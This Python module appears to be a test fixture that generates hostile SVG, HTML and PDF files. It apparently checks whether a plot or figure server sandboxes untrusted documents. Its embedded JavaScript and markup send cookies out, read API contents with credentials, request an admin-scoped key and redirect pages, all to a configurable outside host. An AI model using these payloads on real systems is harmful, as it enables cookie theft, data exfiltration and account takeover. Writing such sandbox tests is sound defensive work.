"""Documents with every attack that a document can try: each reports to ``elsewhere`` when it succeeds."""

from __future__ import annotations

from collections.abc import Callable

_SCRIPT = """
(() => {{
  const say = word => {{ (new Image()).src = '{elsewhere}/' + word; }};
  say('image');
  try {{ say('cookie?' + encodeURIComponent(document.cookie)); }} catch (e) {{ }}
  try {{ fetch('{elsewhere}/fetch', {{mode: 'no-cors'}}).catch(() => 0); }} catch (e) {{ }}
  try {{ navigator.sendBeacon('{elsewhere}/beacon', document.URL); }} catch (e) {{ }}
  try {{
    fetch('{home}api/contents').then(r => r.text()).then(t => say('api?' + t.slice(0, 40))).catch(() => 0);
    fetch('{home}figserve/api/figures', {{credentials: 'include'}}).then(r => r.text())
      .then(t => say('figures?' + t.slice(0, 40))).catch(() => 0);
    fetch('{home}figserve/api/keys', {{method: 'POST', body: '{{"scopes": ["admin"]}}'}}).catch(() => 0);
  }} catch (e) {{ }}
  try {{ new WebSocket('{elsewhere}/socket'.replace('http', 'ws')); }} catch (e) {{ }}
  try {{ window.open('{elsewhere}/popup'); }} catch (e) {{ }}
  try {{ top.location = '{elsewhere}/top'; }} catch (e) {{ }}
  try {{ parent.location = '{elsewhere}/parent'; }} catch (e) {{ }}
  try {{ document.title = 'evil'; localStorage.evil = 1; }} catch (e) {{ }}
  setTimeout(() => {{ location = '{elsewhere}/self?' + encodeURIComponent(location.href); }}, 50);
}})();
"""
_NAMES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="60"'
_BOX = '<rect id="box" width="90" height="60" fill="teal"/>'


def script(elsewhere: str, home: str = "/") -> str:
    return _SCRIPT.format(elsewhere=elsewhere, home=home)


def _svg(inside: str, attributes: str = "") -> Callable[..., str]:
    def make(elsewhere: str, home: str = "/") -> str:
        text = f"<svg {_NAMES} {attributes}>{_BOX}{inside}</svg>"
        return text.replace("EVIL", elsewhere).replace("CODE", script(elsewhere, home))

    return make


SVGS: dict[str, Callable[..., str]] = {
    "script": _svg("<script><![CDATA[CODE]]></script>"),
    "script by address": _svg('<script xlink:href="EVIL/script.js"/>'),
    "onload": _svg("", "onload=\"fetch('EVIL/onload', {mode: 'no-cors'})\""),
    "foreign object": _svg(
        '<foreignObject width="90" height="60"><iframe xmlns="http://www.w3.org/1999/xhtml" src="EVIL/frame"/>'
        '<img xmlns="http://www.w3.org/1999/xhtml" src="EVIL/picture" onerror="location=\'EVIL/onerror\'"/>'
        '<form xmlns="http://www.w3.org/1999/xhtml" action="EVIL/form"><input name="x"/></form>'
        '<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0; url=EVIL/refresh"/>'
        "</foreignObject>"
    ),
    "animate href": _svg(f'<a><animate attributeName="href" values="javascript:fetch(\'EVIL/animate\')"/>{_BOX}</a>'),
    "import": _svg("<style>@import 'EVIL/import.css'; rect { fill: url('EVIL/fill.svg#a'); }</style>"),
    "font": _svg(
        "<style>@font-face { font-family: e; src: url('EVIL/font'); } text { font-family: e }</style>"
        '<text y="30">x</text>'
    ),
    "image": _svg(
        '<image href="EVIL/image" width="9" height="9"/><image xlink:href="EVIL/image2" width="9" height="9"/>'
    ),
    "use": _svg(
        '<use href="EVIL/use.svg#a"/><filter id="f"><feImage href="EVIL/filter"/></filter>'
        '<rect width="9" height="9" filter="url(#f)"/>'
    ),
    "stylesheet": lambda elsewhere, home="/": (
        f'<?xml version="1.0"?><?xml-stylesheet href="{elsewhere}/style.css" type="text/css"?>'
        f"<svg {_NAMES}>{_BOX}</svg>"
    ),
}


def html(elsewhere: str, home: str = "/") -> str:
    """Draw a plot as its HTML does, and try every attack."""
    return f"""<!doctype html><html><head><title>plot</title>
<link rel="stylesheet" href="{elsewhere}/style.css"><link rel="prefetch" href="{elsewhere}/prefetch">
<link rel="dns-prefetch" href="{elsewhere}"><link rel="preconnect" href="{elsewhere}">
<base href="{elsewhere}/base/">
</head><body><div id="plot">not drawn</div><script>document.getElementById('plot').textContent = 'drawn';</script>
<img src="{elsewhere}/picture"><iframe src="{elsewhere}/inner"></iframe><object data="{elsewhere}/object"></object>
<embed src="{elsewhere}/embed"><video src="{elsewhere}/video" autoplay></video>
<script src="{elsewhere}/script.js"></script>
<form id="form" action="{elsewhere}/form" method="post"><input name="x" value="1"></form>
<script>try {{ document.getElementById('form').submit(); }} catch (e) {{ }} {script(elsewhere, home)}</script>
<meta http-equiv="refresh" content="0; url={elsewhere}/refresh">
</body></html>"""


def pdf(elsewhere: str) -> bytes:
    """Return one page that opens a URL and runs a script when it is opened."""
    objects = [
        f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI({elsewhere}/open)/Next 5 0 R>>/AA<</WC 5 0 R>>>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R"
        f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 100]/A<</S/URI/URI({elsewhere}/click)>>>>]"
        f"/AA<</O<</S/SubmitForm/F<</FS/URL/F({elsewhere}/submit)>>>>>>>>",
        "<</Length 0>>stream\n\nendstream",
        f"<</S/JavaScript/JS(app.launchURL\\('{elsewhere}/script'\\); this.submitForm\\('{elsewhere}/form'\\);)>>",
    ]
    body, offsets = b"%PDF-1.7\n", []
    for number, text in enumerate(objects, 1):
        offsets.append(len(body))
        body += f"{number} 0 obj{text}endobj\n".encode()
    table = "".join(f"{offset:010d} 00000 n \n" for offset in offsets)
    tail = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}trailer<</Size {len(objects) + 1}/Root 1 0 R>>\n"
    return body + tail.encode() + f"startxref\n{len(body)}\n%%EOF\n".encode()
